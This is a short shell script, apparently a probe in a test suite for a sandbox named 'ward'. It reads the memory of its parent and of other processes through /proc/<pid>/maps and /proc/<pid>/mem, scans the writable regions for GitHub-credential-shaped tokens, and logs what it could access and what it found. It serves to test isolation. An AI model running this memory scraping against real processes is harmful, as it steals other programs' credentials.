#!/bin/sh
# Attack: credentials from the memory of its parent (ward) and of the
# processes named by its extra arguments: every writable region listed in
# /proc/<pid>/maps, read through /proc/<pid>/mem, searched for anything
# shaped like a GitHub credential. Loot: what it could open, and what it found.
. "$(dirname "$0")/common.sh"
loot "agent $$, parent $PARENT"
for pid in "$PARENT" "$@"; do
  if (: < "/proc/$pid/mem") 2>/dev/null; then loot "opened /proc/$pid/mem"; else loot "denied /proc/$pid/mem"; fi
  if ! maps=$(cat 2>/dev/null < "/proc/$pid/maps") || [ -z "$maps" ]; then
    loot "denied /proc/$pid/maps"
    continue
  fi
  loot "read /proc/$pid/maps"
  printf '%s\n' "$maps" | while read -r range perms rest; do
    case $perms in rw*) ;; *) continue ;; esac
    start=$((0x${range%-*}))
    end=$((0x${range#*-}))
    dd if="/proc/$pid/mem" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) 2>/dev/null
  done | grep -a -o -E "$TOKEN_SHAPES" | sort -u | sed "s|^|found in /proc/$pid/mem: |" >> "$LOOT"
done
finish
